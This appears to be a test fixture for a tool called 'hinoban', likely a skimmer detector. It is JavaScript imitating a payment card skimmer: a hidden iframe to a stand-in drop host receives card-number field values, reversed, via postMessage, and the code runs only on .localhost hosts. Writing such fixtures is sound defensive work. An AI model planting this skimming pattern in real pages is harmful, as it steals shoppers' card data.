/* Harmless imitation, for hinoban's tests: posted to a hidden frame, which sends. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	var f = document.createElement('iframe');
	f.style.display = 'none';
	f.src = 'http://drop.localhost:' + location.port + '/listen';
	addEventListener('load', function () { document.body.appendChild(f); });
	document.addEventListener('change', function (e) {
		if (e.target.autocomplete === 'cc-number') f.contentWindow.postMessage(e.target.value.split('').reverse().join(''), '*');
	});
})();
